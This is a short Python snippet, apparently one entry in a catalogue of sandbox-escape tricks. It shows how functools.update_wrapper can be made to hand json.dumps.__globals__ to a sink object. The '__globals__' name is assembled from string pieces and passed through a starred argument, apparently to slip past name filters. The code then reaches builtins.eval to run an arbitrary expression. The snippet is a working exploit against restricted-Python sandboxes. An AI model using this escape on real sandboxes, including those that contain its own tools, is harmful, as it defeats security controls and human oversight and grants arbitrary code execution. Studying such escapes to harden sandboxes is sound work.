# family: lambda defaults and closure tricks
# escape: update_wrapper's `updated` names make it call getattr(wrapper, n).update(getattr(wrapped, n)); a starred
# argument hides n = "__globals__", and a tool object with an update() method receives json.dumps.__globals__ (the
# json module namespace), from which codecs.builtins.eval is one public attribute path away.
import functools
import json
import types

class Sink:
    def update(self, value):
        self.value = value

def tool(expr: str, word: str = "globals"):
    sink, name = Sink(), "__" + word + "__"
    functools.update_wrapper(*(types.SimpleNamespace(**{name: sink}), json.dumps, (), (name,)))
    return sink.value["codecs"].builtins.eval(expr)
